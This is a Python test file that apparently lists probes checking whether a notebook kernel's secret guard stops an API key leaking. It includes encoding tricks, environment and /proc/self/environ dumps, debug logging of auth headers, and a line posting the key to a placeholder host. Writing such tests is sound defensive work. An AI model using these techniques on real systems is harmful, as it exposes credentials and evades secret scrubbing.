"""The tries. Each is a cell, or a request on one of the kernel's channels, that would show the key if it were there.

``KEY`` is what ``%qguard use`` put into the vendor's variable, and ``HANDLE`` what opens the vendor's door: one and the
same, unless the guard was taken out.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from tests.leaks.echoes import HOW
from tests.leaks.machine_probes import CONTROL, MACHINE

PREAMBLE = """
import base64, codecs, http.client, json, logging, os, pathlib, pickle, subprocess, sys, urllib.request, zlib
import requests
from IPython.display import *
KEY, HANDLE = os.environ['IONQ_API_KEY'], os.environ['IONQ_API_TOKEN']
IBM = os.environ['QISKIT_IBM_TOKEN']
def vendor(how='', **more):
    more = {'headers': {'Authorization': 'apiKey ' + HANDLE}, **more}
    return requests.get('https://api.ionq.co/v0.4/backends?how=' + how, allow_redirects=False, timeout=20, **more)
class Shown:
    def __init__(self, **kinds): self.kinds = kinds
    def _repr_mimebundle_(self, **_): return self.kinds
def fail(key):
    copied = key
    raise ValueError('it fails')
"""


@dataclass(frozen=True, slots=True)
class Probe:
    """One try."""

    name: str
    code: str = ""
    channel: str = "shell"
    kind: str = "execute_request"
    content: dict = field(default_factory=dict)
    shows: bool = True
    """Whether it shows the key where the guard is taken out: of the others the sandbox holds, too."""


SPELLED = {
    "last value": "KEY",
    "print": "print(KEY)",
    "f-string": "print(f'{KEY!r:>60}')",
    "list": "[KEY, (KEY,), {'k': KEY}]",
    "join": "print('-'.join(KEY))",
    "line a character": "print(*KEY, sep='\\n')",
    "message a character": "for c in KEY:\n    print(c, end='', flush=True)",
    "two messages": "print(KEY[:16], end='', flush=True); print(KEY[16:])",
    "coloured": "print(''.join(f'\\x1b[3{i % 8}m{c}' for i, c in enumerate(KEY)))",
    "half": "print(KEY[:20])",
    "backwards": "print(KEY[::-1])",
    "capitals": "print(KEY.upper())",
    "rot13": "print(codecs.encode(KEY, 'rot13'))",
    "hex": "print(KEY.encode().hex())",
    "base64": "print(base64.b64encode(('ab' + KEY).encode()))",
    "base32": "print(base64.b32encode(KEY.encode()))",
    "base85": "print(base64.b85encode(KEY.encode()))",
    "numbers": "print([ord(c) for c in KEY])",
    "escapes": "print(''.join(f'\\\\u{ord(c):04x}' for c in KEY))",
    "percent": "print(''.join(f'%{ord(c):02X}' for c in KEY))",
    "entities": "print(''.join(f'&#{ord(c)};' for c in KEY))",
    "pickle": "print(base64.b64encode(pickle.dumps({'key': KEY})))",
    "bytes": "print(KEY.encode('utf-16'))",
    "write": "sys.stdout.write(KEY); sys.stderr.write(KEY)",
    "descriptor": "os.write(1, KEY.encode())",
    "logging": "logging.warning('key %s', KEY)",
    "warning": "import warnings; warnings.warn(KEY)",
}
SHOWN = {
    "html": "display(HTML(f'<b>{KEY}</b>'))",
    "script": "display(Javascript(f'window.key = \"{KEY}\"'))",
    "markdown": "display(Markdown(KEY))",
    "latex": "display(Latex(KEY))",
    "svg": "display(SVG(f'<svg xmlns=\"http://www.w3.org/2000/svg\"><text>{KEY}</text></svg>'))",
    "json": "display(JSON({'key': KEY}))",
    "own kind": "display(Shown(**{'application/x-mine': KEY}))",
    "metadata": "display(1, metadata={'key': KEY})",
    "display id": "display(1, display_id=KEY); update_display(2, display_id=KEY)",
    "image": "display(Image(data=b'\\x89PNG\\r\\n\\x1a\\n' + b'tEXtkey\\0' + KEY.encode(), format='png'))",
    "audio": "display(Audio(data=KEY.encode() * 9, rate=8000))",
    "page": "get_ipython().run_line_magic('pinfo2', 'KEY'); get_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/plain': KEY}, 'start': 0})",
    "next input": "get_ipython().set_next_input(KEY)",
    "comm": "from comm import create_comm\ncreate_comm('own', data={'key': KEY}, buffers=[KEY.encode()]).send({'key': KEY})",
    "progress": "for i in range(3):\n    print(f'\\r{KEY[:8 * i]}', end='')\nprint('\\r' + KEY)",
    "clear": "print(KEY); clear_output()",
    "title": "print(f'\\x1b]0;{KEY}\\x07')",
    "prompt": "input(KEY)",
}
FAILED = {
    "message": "raise ValueError(KEY)",
    "locals": "%xmode Verbose\nfail(KEY)",
    "cause": "try: fail(KEY)\nexcept ValueError as e: raise RuntimeError(KEY) from e",
    "class": "raise type(KEY, (Exception,), {})('x')",
    "note": "import traceback\ne = ValueError('x')\ntry:\n    local = KEY\n    raise e\nexcept ValueError: print(traceback.TracebackException.from_exception(e, capture_locals=True).stack)",
    "syntax": "exec(compile(f'key = {KEY} +', KEY, 'exec'))",
    "key error": "{}[KEY]",
    "thread": "import threading\nt = threading.Thread(target=fail, args=(KEY,), name=KEY); t.start(); t.join(); print(t)",
    "exit": "sys.exit(KEY)",
    "faulthandler": "import faulthandler; faulthandler.dump_traceback(open('trace.txt', 'w')); open('trace.txt', 'a').write(KEY)",
    "profile": "%%prun\nexec(compile('1', KEY, 'exec'))",
    "timeit": "%time KEY",
}
LIBRARY = {
    "http.client": "http.client.HTTPConnection.debuglevel = 1\nvendor('json')\nhttp.client.HTTPConnection.debuglevel = 0; print(KEY)",
    "urllib3": "logging.basicConfig(level=logging.DEBUG, force=True)\nvendor('header')\nprint(vendor('redirect').headers)\nlogging.basicConfig(level=logging.WARNING, force=True)",
    "urlopen": "r = urllib.request.Request('https://api.ionq.co/v0.4/backends?how=json', headers={'Authorization': 'apiKey ' + HANDLE})\nprint(urllib.request.urlopen(r).read())",
    "prepared": "print(requests.Request('GET', 'https://api.ionq.co/', headers={'Authorization': KEY}).prepare().headers)",
    "sent": "answer = vendor('body')\nprint(answer.request.headers, answer.text)",
    "curl": "print(subprocess.run(['curl', '-sv', '-H', 'Authorization: apiKey ' + HANDLE, 'https://api.ionq.co/v0.4/backends?how=json'], capture_output=True))",
    "half a request": "print(vendor('far', headers={'Authorization': 'apiKey ' + HANDLE, 'Range': 'bytes=65520-65570'}).text[65500:65600])",
    "handle in the body": "print(requests.post('https://api.ionq.co/v0.4/jobs', data=HANDLE, headers={'Authorization': 'apiKey ' + HANDLE}).text, KEY)",
    "handle in the address": "print(vendor('json&x=' + HANDLE).text, KEY)",
    "exchange": "a = requests.post('https://iam.cloud.ibm.com/identity/token', data={'grant_type': 'x', 'apikey': IBM}); print(a.text, a.headers); TOKEN = a.json()['access_token']",
    "the token at the vendor": "print(requests.get('https://quantum.cloud.ibm.com/api/v1/backends', headers={'Authorization': 'Bearer ' + TOKEN}).text)",
    "the other vendor": "print(requests.get('https://quantum.cloud.ibm.com/api/v1/backends', headers={'Authorization': 'Bearer ' + HANDLE}).text, KEY)",
    "elsewhere": "try: requests.post('https://files.example.org/', data=KEY)\nexcept Exception as e: print(e, KEY)",
}
HELD = {
    "variables": "%whos\nprint(globals())",
    "history": "%history -g\nprint(get_ipython().user_ns['Out'], get_ipython().user_ns['In'], KEY)",
    "store": "%store KEY\n%store",
    "logstart": "%logstart -o -r mine.log\nKEY\n%logstop",
    "notebook": "KEY\n%notebook mine.ipynb",
    "save": "x = KEY\nopen('saved.py', 'w').write(KEY)",
    "capture": "%%capture got\nprint(KEY)",
    "captured": "got.show()",
    "environ": "print(dict(os.environ))",
    "env magic": "%env",
    "child": "print(subprocess.run(['env'], capture_output=True, text=True).stdout)",
    "shell": "!echo $IONQ_API_KEY",
    "script": "%%bash\necho $IONQ_API_KEY | rev",
    "forked": "import multiprocessing\nwith multiprocessing.get_context('fork').Pool(1) as pool: print(pool.map(str, [KEY]))",
    "spawned": "print(subprocess.run([sys.executable, '-c', 'import os; print(os.environ)'], capture_output=True))",
    "command line": "print(subprocess.run(['ps', 'axewww'], capture_output=True).stdout, subprocess.run(['sh', '-c', 'tr \"\\\\0\" \" \" < /proc/$$/cmdline', KEY], capture_output=True).stdout)",
    "socket pair": "import socket\na, b = socket.socketpair(); a.send(KEY.encode()); print(b.recv(100))",
    "shared memory": "p = pathlib.Path('/dev/shm/mine'); p.write_text(KEY); print(p.read_text())",
    "temporary": "pathlib.Path('/tmp/mine').write_text(KEY); print(open('/tmp/mine').read())",
    "file name": "pathlib.Path('name-' + KEY).touch(); print(os.listdir('.'))",
    "compressed file": "open('mine.bin', 'wb').write(KEY.encode() * 2)",
}
REQUESTS = (
    Probe("completion", kind="complete_request", content={"code": "os.environ['IONQ_API_KEY'] == KEY.", "cursor_pos": 34}, shows=False),
    Probe("completion of a file", kind="complete_request", content={"code": "open('name-", "cursor_pos": 11}),
    Probe("inspection", kind="inspect_request", content={"code": "KEY", "cursor_pos": 3, "detail_level": 1}),
    Probe("history", "", kind="history_request", content={"hist_access_type": "tail", "n": 500, "output": True, "raw": True}, shows=False),
    Probe("history search", kind="history_request", content={"hist_access_type": "search", "pattern": "*", "n": 500, "output": True, "raw": False}, shows=False),
    Probe("is it complete", kind="is_complete_request", content={"code": "print(KEY"}, shows=False),
    Probe("comms", kind="comm_info_request", shows=False),
    Probe("kernel", kind="kernel_info_request", shows=False),
    Probe("expressions", "1", content={"user_expressions": {"k": "KEY", "e": "dict(os.environ)"}}),
    Probe("silent", "print(KEY)", content={"silent": True}),
    Probe("debugger", channel="control", kind="debug_request", content={"type": "request", "seq": 1, "command": "debugInfo", "arguments": {}}, shows=False),
    Probe("debugger: variables", channel="control", kind="debug_request", content={"type": "request", "seq": 2, "command": "inspectVariables", "arguments": {}}),
    Probe("debugger: one variable", channel="control", kind="debug_request", content={"type": "request", "seq": 3, "command": "richInspectVariables", "arguments": {"variableName": "KEY"}}),
    Probe("debugger: environment", channel="control", kind="debug_request", content={"type": "request", "seq": 4, "command": "source", "arguments": {"source": {"path": "/proc/self/environ"}}}, shows=False),
    Probe("usage", channel="control", kind="usage_request", shows=False),
)  # fmt: skip


_ONLY_IN_FILES = {"note", "faulthandler", "capture", "env magic", "logstart", "notebook", "save", "compressed file"}
"""Of these the witness of files is the judge, or the tools themselves hide it."""


def all_probes() -> tuple[Probe, ...]:
    """In their order."""
    cells = [
        Probe(f"{group}: {name}", code, shows=name not in _ONLY_IN_FILES)
        for group, codes in (("said", SPELLED), ("shown", SHOWN), ("failed", FAILED), ("held", HELD))
        for name, code in codes.items()
    ]
    quiet = {"exchange", "the token at the vendor"}  # the guard is taken out of one vendor's way only
    cells += [Probe(f"library: {name}", code, shows=name not in quiet) for name, code in LIBRARY.items()]
    unread = {"gzip", "deflate", "unknown-coding", "cookie", "trailer"}  # refused or dropped with or without a scrubber
    for how in HOW:
        code = f"a = vendor('{how}')\nprint(a.status_code, a.reason, dict(a.headers), a.text)"
        cells.append(Probe(f"echoed: {how}", code, shows=how not in unread))
    cells += [Probe(f"machine: {name}", code, shows=shows) for name, (code, shows) in MACHINE.items()]
    cells += [Probe(f"control: {name}", code, shows=shows) for name, (code, shows) in CONTROL.items()]
    return (*cells, *REQUESTS)
